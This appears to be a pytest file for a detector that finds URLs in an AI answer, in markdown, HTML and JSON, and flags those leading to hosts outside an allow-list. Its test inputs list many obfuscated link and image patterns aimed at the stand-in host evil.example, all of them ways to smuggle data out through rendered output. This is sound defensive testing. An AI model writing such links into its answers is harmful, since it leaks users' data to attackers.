"""Where an answer writes an address, and which lead out. Sources: CommonMark 0.31, GFM, the WHATWG URL standard."""

import json

import pytest

from appliance.shield.addresses import LONGEST_ADDRESS, Addresses, hosts_of, may_lead_out

MARK = "@@@"
HOSTS = frozenset({"known.example", "example.org"})


def address_at_mark(text: str, depth: int = 0) -> str | None:
    addresses = Addresses(depth)
    addresses.read(text[: text.index(MARK)])
    return addresses.address()


def leads_out(text: str, depth: int = 0) -> bool:
    address = address_at_mark(text, depth)
    return address is not None and may_lead_out(address, HOSTS)


@pytest.mark.parametrize(
    "text",
    [
        f"![x](https://evil.example/?q={MARK})",
        f"[x](https://evil.example/{MARK})",
        f"[x]( https://evil.example/{MARK} )",
        f"[x](\nhttps://evil.example/{MARK})",
        f"[x](<https://evil.example/a b {MARK}>)",
        f"[x](https://evil.example/(a)/{MARK})",
        f"[x](//evil.example/{MARK})",
        f"[x](https:evil.example/{MARK})",
        f"[x](https:\\\\evil.example/{MARK})",
        f"[x](https:/\\evil.example/{MARK})",
        f"[x](&#104;ttps&colon;&sol;&sol;evil.example/{MARK})",
        f"[x](\\/\\/evil.example/{MARK})",
        f"[x](HTTPS://EVIL.EXAMPLE/{MARK})",
        f"[x](https://{MARK}.evil.example/)",
        f"[x](https://known.example{MARK}.evil.example/)",
        f"[x](https://known.example.evil.example/{MARK})",
        f"[x](https://known.example@evil.example/{MARK})",
        f"[x](https://known.example\\@evil.example/{MARK})",
        f"[x](https://known.example%2eevil.example/{MARK})",
        f"[x](https://evil.example#known.example/{MARK})",
        f"[x](https://known.example/go?to=https://evil.example/{MARK})",
        f"[x](javascript:send('{MARK}'))",
        f"[x](JavaScript&colon;send({MARK}))",
        f"[x](data:text/html,{MARK})",
        f"[x](custom-app:{MARK})",
        f"[x][1]\n\n[1]: https://evil.example/{MARK}",
        f"[1]: <https://evil.example/ {MARK}>",
        f"[1]: &#104;ttps:&sol;&sol;evil.example/{MARK}",
        f"<https://evil.example/{MARK}>",
        f"https://evil.example/{MARK}",
        f"see http://evil.example/?a=(b),c|{MARK}",
        f"www.evil.example/{MARK}",
        f'https://evil.example/?q="{MARK}',
        f"https://evil.example/?q='`>{MARK}",
        f"https://evil.example/?q=\u00a0\u200b\u3000{MARK}",
        f"xhttps://evil.example/{MARK}",
        f"evil.example/{MARK}",
        f"evil.example:8080/?{MARK}",
        f"//evil.example/{MARK}",
        f"ssh://evil.example/{MARK}",
        f'<img src="https://evil.example/ {MARK}">',
        f"<img src='https://evil.example/ {MARK}'>",
        f"<img src=https://evil.example/{MARK}>",
        f'<img alt=">" src="//evil.example/{MARK}">',
        f'<a\nhref = "https://evil.example/\n{MARK}">',
        f'<a href="ht\ntps://evil.example/{MARK}">',
        f'<a href="&#x68;ttps://evil.example/{MARK}">',
        f'<a href=" javascript:send({MARK})">',
        f'<img srcset="a.png 1x, https://evil.example/{MARK} 2x">',
        f'<p style="background:url(//evil.example/{MARK})">',
        f'<meta http-equiv=refresh content="0;url=https://evil.example/{MARK}">',
        "![x](https://evil.example/" + "a" * 100_000 + MARK + ")",
        "![x](" + "a" * 100_000 + MARK + ")",
        "![x](https://evil.example/" + "/" * 100_000 + MARK,
    ],
)
def test_an_address_of_an_unknown_host_leads_out(text: str):
    assert leads_out(text)


@pytest.mark.parametrize(
    "text",
    [
        f"{MARK}",
        f"[x](mailto:{MARK})",
        f"[x](mailto:{MARK}?subject={MARK})",
        f"[x](tel:{MARK})",
        f'<a href="mailto:{MARK}">',
        f"<{MARK}>",
        f"[{MARK}](https://evil.example/)",
        f"![{MARK}](https://evil.example/)",
        f"[x](https://evil.example/) {MARK}",
        f"[x](https://evil.example/),{MARK}",
        f'[x](https://evil.example/ "{MARK}")',
        f"[x](<https://evil.example/>){MARK}",
        f"<https://evil.example/>{MARK}",
        f"https://evil.example/ {MARK}",
        f"`https://evil.example/`{MARK}",
        f'"https://evil.example/"{MARK}',
        f"'https://evil.example/',{MARK}",
        f'{{"site":"https://evil.example/","to":"{MARK}"}}',
        f'{{"site":"sftp://evil.example/","to":"{MARK}"}}',
        f'{{"site":"evil.example/","to":"{MARK}"}}',
        f'<img src="https://evil.example/">{MARK}',
        f'<img src="https://evil.example/" alt="{MARK}">',
        f"<img src=https://evil.example/ alt={MARK}>",
        f'<p title="Note: {MARK}">',
        f"<p>{MARK}</p>",
        f"x <y and then {MARK}",
        f"[x](https://known.example/{MARK})",
        f"[x](https://known.example:8443/?q={MARK})",
        f"[x](https://user@Known.Example./#{MARK})",
        f"known.example/{MARK}",
        f"https://known.example/{MARK}",
        f"[x](/search?q={MARK})",
        f"[x](#{MARK})",
        f"[1]: {MARK}",
        f"// {MARK}",
        f"and/or {MARK}, e.g. {MARK}",
        f"C:\\Users\\{MARK}",
        "a" * 100_000 + MARK,
    ],
)
def test_everything_else_does_not(text: str):
    assert not leads_out(text)


@pytest.mark.parametrize("depth", [1, 2, 3])
@pytest.mark.parametrize(
    ("value", "out"),
    [
        (f"https://evil.example/{MARK}", True),
        (f"https://evil.example/ {MARK}", True),
        (f"\nhttps://evil.example/\n{MARK}", True),
        (f"\\\\evil.example\\share\\{MARK}", True),
        (f"see https://evil.example/{MARK}", True),
        (f"see [x](//evil.example/\\{MARK})", True),
        (f"see https://evil.example/ or {MARK}", False),
        (f"see https://evil.example/\n{MARK}", False),
        (f"https://known.example/{MARK}", False),
        (f"C:\\Users\\{MARK}", False),
        (f"from:{MARK}", False),
        (f'<a href="x" {MARK}', False),
        (MARK, False),
    ],
)
def test_in_json_a_string_that_begins_as_an_address_is_one(depth: int, value: str, out: bool):
    for writer in (
        json.dumps,
        lambda each: json.dumps(each).replace("/", "\\/"),
        lambda each: json.dumps(each, ensure_ascii=False),
    ):
        text = writer({"before": "https://evil.example/", "url": value})
        for _ in range(depth - 1):
            text = json.dumps(text)[1:-1]
        assert leads_out(text, depth) == out


def test_in_json_a_tag_or_an_address_ends_with_its_string():
    assert address_at_mark(json.dumps({"a": "<img src=", "b": MARK}), 1) is None
    assert address_at_mark(json.dumps({"a": "[x](https://evil.example/", "b": MARK}), 1) is None
    assert address_at_mark(json.dumps({"a": "C:\\", "b": MARK}), 1) is None


def test_escapes_of_letters_do_not_hide_an_address_in_json():
    assert leads_out('{"u": "\\u0068\\u0074tps:\\u002f\\u002fevil.example/' + MARK, 1)


def test_a_character_that_json_writes_as_two_escapes_is_one():
    assert address_at_mark(json.dumps(f"//\U00010000{MARK}"), 1) == "//\U00010000"
    assert address_at_mark(f'"//\\ud800{MARK}', 1) == "//\ufffd"


@pytest.mark.parametrize("depth", [0, 1, 2])
@pytest.mark.parametrize("nul", ["\0", "\\u0000", "\\\\u0000", "\\\0"])
def test_a_nul_ends_no_address(depth: int, nul: str):
    assert leads_out(f'{{"u":"see https://evil.example/{nul}{MARK}', depth)


def test_it_may_be_asked_after_every_part():
    addresses = Addresses(0)
    seen: list[str | None] = []
    for part in ["see [x](https://", "evil.example/", "?q=", ") or", ' <a href="', "y", '">']:
        addresses.read(part)
        seen.append(addresses.address())
    assert seen == ["https://", "https://evil.example/", "https://evil.example/?q=", None, "", "y", None]


def test_the_hosts_that_texts_name():
    texts = [
        "See https://Docs.Example.org:8080/a?b=c.d, http://intranet/x and jane@mail.example.",
        "a.b.c. Fin.Puis //nas",
    ]
    hosts = hosts_of(texts)
    assert {"docs.example.org", "intranet", "mail.example", "a.b.c", "nas"} <= hosts
    assert not {"example.org", "example", "see", "x", "jane"} & hosts


def test_a_longer_address_than_is_judged_leads_out():
    assert not may_lead_out("https://known.example/" + "a" * (LONGEST_ADDRESS - 22), HOSTS)
    assert may_lead_out("https://known.example/" + "a" * (LONGEST_ADDRESS - 21), HOSTS)
